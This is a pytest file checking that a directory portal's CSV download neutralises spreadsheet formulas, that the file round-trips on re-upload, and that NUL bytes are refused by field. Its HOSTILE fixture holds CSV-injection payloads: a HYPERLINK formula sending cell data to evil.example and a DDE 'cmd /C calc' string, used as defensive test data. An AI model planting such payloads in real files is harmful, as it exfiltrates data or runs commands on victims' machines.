"""Issue 23.10: a CSV meant for spreadsheets cannot run a formula, and NUL bytes never get in.

The portal's download of an organization's locations prefixes every cell a spreadsheet would
read as a formula with ``'``, and uploading the file again takes it off, so the round trip
changes nothing. The HSDS export is for programs and keeps values exactly (a documented
decision in ``directory/hsds/tables.py``). NUL bytes are refused at input, naming the field.
"""

from __future__ import annotations

import csv
import io

import pytest

from directory.extensions import db
from directory.hsds.package import export_package
from directory.models import Location, Phone
from directory.operations import Actor, bulk
from tests.factories import LocationFactory
from tests.partners.helpers import csrf_token, log_in, make_world, version_fields

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def world(app, monkeypatch):
    monkeypatch.setitem(app.config, "PASSWORD_HASH_PROFILE", "CHEAPEST")
    return make_world()


def hostile_place(world) -> Location:
    place = LocationFactory(organization=world.org_a, longitude=-73.9972, **HOSTILE)
    place.phones = [Phone(number="+1 212-555-0100", type="voice")]
    db.session.commit()
    return place


def test_the_portal_download_prefixes_every_formula_like_cell(client, world):
    hostile_place(world)
    log_in(client, world.editor_a.email)
    response = client.get(f"/partners/organizations/{world.org_a.id}/bulk/download")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    (row,) = rows
    assert row["name"] == "'" + HOSTILE["name"]
    assert row["description"] == "'" + HOSTILE["description"]
    assert row["phones"] == "'+1 212-555-0100"
    assert row["longitude"] == "'-73.9972"
    for cell in row.values():
        assert not cell.startswith(bulk.FORMULA_STARTS), cell


def test_uploading_the_download_again_changes_nothing(client, world):
    hostile_place(world)
    text = bulk.export_csv(db.session, world.org_a)
    report = bulk.run(db.session, world.org_a, text, Actor.system(), apply=False)
    assert report.ok, report
    assert [row.outcome for row in report.rows] == ["unchanged"]


def test_the_hsds_export_keeps_values_exactly_for_the_programs_that_read_it(world, tmp_path):
    hostile_place(world)
    export_package(db.session, tmp_path)
    locations = (tmp_path / "locations.csv").read_text(encoding="utf-8")
    assert "-73.9972" in locations
    assert "'-73.9972" not in locations


def test_a_nul_byte_in_a_portal_form_is_refused_naming_the_field(client, world):
    place = LocationFactory(organization=world.org_a, name="Midtown")
    log_in(client, world.editor_a.email)
    url = f"/partners/locations/{place.id}"
    data = {
        "name": "Midtown",
        "description": "before\x00after",
        "address_1": "350 5th Ave",
        "city": "New York",
        "state": "NY",
        "postal_code": "10118",
        **{f"hours-{day}-mode": "closed" for day in range(7)},
        **version_fields(client, url),
    }
    response = client.post(url, data={**data, "csrf_token": csrf_token(client)})
    assert response.status_code == 422
    assert 'id="description-error"' in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Location, place.id).description is None
